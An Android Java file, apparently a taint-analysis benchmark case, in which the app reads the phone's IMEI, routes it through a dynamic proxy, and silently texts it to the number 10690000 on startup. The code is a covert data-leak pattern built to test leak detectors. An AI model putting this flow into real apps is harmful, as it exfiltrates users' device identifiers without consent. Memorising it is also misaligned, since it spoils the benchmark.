// about       The proxy of an interface answers with what the object behind it says.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.lang.reflect.InvocationHandler;
import java.lang.reflect.Method;
import java.lang.reflect.Proxy;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    Class<?>[] types = {Names.class};
    Names names = (Names) Proxy.newProxyInstance(getClassLoader(), types, new Behind(new Real(phone)));
    SmsManager.getDefault().sendTextMessage("10690000", null, names.name(), null, null);
  }
}

interface Names {
  String name();
}

class Real implements Names {
  private final TelephonyManager phone;

  Real(TelephonyManager phone) {
    this.phone = phone;
  }

  @Override
  public String name() {
    return phone.getDeviceId();
  }
}

class Behind implements InvocationHandler {
  private final Object real;

  Behind(Object real) {
    this.real = real;
  }

  @Override
  public Object invoke(Object proxy, Method method, Object[] arguments) throws Throwable {
    Object said = method.invoke(real, arguments);
    return said;
  }
}
